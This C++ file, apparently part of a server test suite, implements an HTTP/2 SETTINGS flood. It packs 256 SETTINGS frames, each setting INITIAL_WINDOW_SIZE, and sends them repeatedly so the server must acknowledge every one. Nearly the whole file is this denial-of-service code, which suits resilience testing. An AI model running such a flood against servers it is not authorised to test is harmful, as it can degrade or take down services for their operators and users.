// Settings, each of which has to be acknowledged, and whose acknowledgements
// nobody reads.
#include "tests/attack/attack.h"
#include "tests/attack/http_flood.h"
#include "tests/attack/http_frames.h"

namespace gmb::attack {

absl::Status SettingsFlood(Attack& attack) {
  const std::string window("\0\x4\0\0\xff\xff", 6);  // INITIAL_WINDOW_SIZE
  std::string many;
  for (int i = 0; i < 256; ++i)
    many += Frame(FrameType::kSettings, 0, 0, window);
  HttpFlood flood;
  flood.next = [&](HttpConnection&, const std::string&) { return many; };
  Run(flood, attack);
  return absl::OkStatus();
}

}  // namespace gmb::attack
